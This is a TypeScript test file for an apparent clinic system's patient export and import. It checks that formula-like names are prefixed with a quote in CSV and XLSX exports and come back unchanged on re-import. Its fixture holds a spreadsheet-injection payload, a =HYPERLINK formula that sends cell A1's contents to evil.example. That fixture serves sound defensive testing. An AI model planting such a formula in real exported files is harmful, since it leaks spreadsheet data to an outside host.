// Text that a spreadsheet would run as a formula (a name like =HYPERLINK(…)) leaves the patient
// export with a quote in front, in CSV and XLSX alike, and the same file imported again gives
// back the text as it was.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { as, createTestApp, createTestClinic, type TestApp } from '../../testing/helpers.ts';
import { runExport, runImport } from './transfer.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => t.close());

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"點我")';

async function exported(api: ReturnType<typeof as>, clinicId: string, format: 'csv' | 'xlsx') {
  const ex = await api.post('/api/patients/exports', { format, filter: {} });
  expect(ex.statusCode).toBe(202);
  await runExport(t.deps, clinicId, ex.json().id);
  const dl = await api.get(`/api/patients/exports/${ex.json().id}/download`);
  expect(dl.statusCode).toBe(200);
  return dl.rawPayload;
}

it('puts a quote before formula-like text in CSV and XLSX, and an import of that file takes it off', async () => {
  const c = await createTestClinic(t);
  const api = as(t.app, c.admin);
  const his = c.his(await c.apiKey());
  expect((await his.put('/his/v1/patients/P1', { name: EVIL, phone: '0912-345-678' })).statusCode).toBeLessThan(300);
  expect((await his.put('/his/v1/patients/P2', { name: '-王小明' })).statusCode).toBeLessThan(300);

  const csv = await exported(api, c.clinicId, 'csv');
  const rows = parse(csv.toString('utf8'), { bom: true }) as string[][];
  const names = rows.slice(1).map((r) => r[rows[0].indexOf('姓名')]);
  expect(names.sort()).toEqual([`'${EVIL}`, "'-王小明"].sort());

  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await exported(api, c.clinicId, 'xlsx')) as never);
  const xnames: unknown[] = [];
  wb.worksheets[0].eachRow((r, n) => n > 1 && xnames.push(r.getCell(1).value));
  expect(xnames.sort()).toEqual([`'${EVIL}`, "'-王小明"].sort());

  // The exported CSV imported into another clinic: the names as the HIS wrote them.
  const other = await createTestClinic(t);
  const oapi = as(t.app, other.admin);
  const pv = await oapi.post('/api/patients/imports', {
    filename: 'p.csv',
    format: 'csv',
    contentBase64: csv.toString('base64'),
  });
  expect(pv.statusCode, pv.body).toBe(200);
  expect(pv.json().valid).toBe(2);
  expect((await oapi.post(`/api/patients/imports/${pv.json().id}/commit`)).statusCode).toBe(200);
  await runImport(t.deps, other.clinicId, pv.json().id);
  const list = (await oapi.get('/api/patients')).json();
  expect(list.items.map((p: { name: string }) => p.name).sort()).toEqual([EVIL, '-王小明'].sort());
});
